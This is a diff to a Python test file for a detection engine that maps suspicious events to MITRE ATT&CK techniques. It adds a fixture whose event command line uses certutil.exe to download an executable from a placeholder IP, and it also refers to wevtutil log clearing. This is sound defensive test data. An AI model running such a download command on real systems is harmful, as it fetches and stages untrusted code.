@@ -12,7 +12,7 @@ from engine.errors import Problems
 from engine.rule import Rule, Selection
 from mitre.catalog import Catalog
 from mitre.mapper import Mapper
-from mitre.ranked import Ranked
+from mitre.ranked import Answer, Likely, Ranked
 from tests.engine.score.parts import ensemble, own, record, told
 from vedette import mapper as learned
 from vedette import rulesets
@@ -33,10 +33,17 @@ def cleared(count: int = 3) -> list[Any]:
     return [record(340 * 60 + n, 1, **more) for n in range(count)]
 
 
+def fetched() -> list[Any]:
+    """Starts of a tool that fetches a file, which rules of Vedette's own look for."""
+    command = "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe"
+    more = {"Image": r"C:\Windows\System32\certutil.exe", "CommandLine": command}
+    return [record(340 * 60 + n, 1, **more) for n in range(3)]
+
+
 def test_an_anomaly_without_a_rule_lists_what_similar_rules_are_about() -> None:
     proposals = Proposals(LazyMapper(rulesets.load([], Selection()).rules, None, Problems()))
     one, _ = ensemble(techniques=proposals)
-    (alert,) = told(one, cleared())
+    (alert,) = told(one, fetched())
     proposed = own(alert)["attack"]["candidates"]
     catalog = Catalog.load()
     assert proposed
@@ -54,11 +61,12 @@ class Counting:
     def __init__(self) -> None:
         self.asked = 0
 
-    def rank(self, text: str, **_: Any) -> tuple[Any, ...]:
+    def answer(self, text: str, **_: Any) -> Answer:
         assert "wevtutil" in text
         self.asked += 1
         other = Ranked("T1070", "Indicator Removal", ("stealth",), 0.3)
-        return (Ranked("T1685", "Disable", ("stealth",), 0.2 * self.asked), other)
+        sure = Ranked("T1685", "Disable", ("stealth",), 0.2 * self.asked)
+        return Answer((sure, other), (Likely("stealth", 0.9 - 0.2 * self.asked),))
 
 
 def test_few_events_are_asked_about_and_the_surest_answer_counts(
@@ -113,10 +121,10 @@ def test_what_asks_of_anomalies_and_of_rules_shares_one_mapper_and_other_rules_r
     of_anomalies, of_rules = Proposals(shared), RuleProposals(shared)
     assert any(of_rules(rule.id) for rule in rules[:40])
     one, _ = ensemble(techniques=of_anomalies)
-    assert own(told(one, cleared())[0])["attack"]["candidates"]
+    assert own(told(one, fetched())[0])["attack"]["candidates"]
     assert made == [len(rules)]
     of_rules.adopt(rules[:100])
     one.reset()
-    told(one, cleared())
+    told(one, fetched())
     of_rules(rules[0].id)
     assert made == [len(rules), 100]
